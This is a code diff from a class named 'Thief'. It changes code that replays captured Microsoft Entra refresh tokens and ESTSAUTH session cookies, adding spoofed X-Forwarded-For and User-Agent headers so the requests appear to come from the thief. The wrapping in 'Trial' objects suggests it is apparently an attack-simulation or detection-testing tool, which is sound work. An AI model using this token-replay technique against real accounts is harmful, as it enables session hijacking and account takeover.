@@ -225,9 +225,13 @@ class Thief:
             "refresh_token": loot.refresh_token,
         }
         url = f"{base}/authorize?client_id={loot.client_id}&response_type=code&prompt=none"
-        cookie = {"Cookie": f"ESTSAUTH={loot.estsauth}"}
+        here = {"X-Forwarded-For": THIEF.ip, "User-Agent": THIEF.agent}
+        cookie = {"Cookie": f"ESTSAUTH={loot.estsauth}", **here}
         return [
-            (Trial("entra", "refresh_token"), _request("POST", f"{base}/token", data=form)),
+            (
+                Trial("entra", "refresh_token"),
+                _request("POST", f"{base}/token", data=form, headers=here),
+            ),
             (Trial("entra", "ESTSAUTH"), _request("GET", url, headers=cookie)),
         ]
 
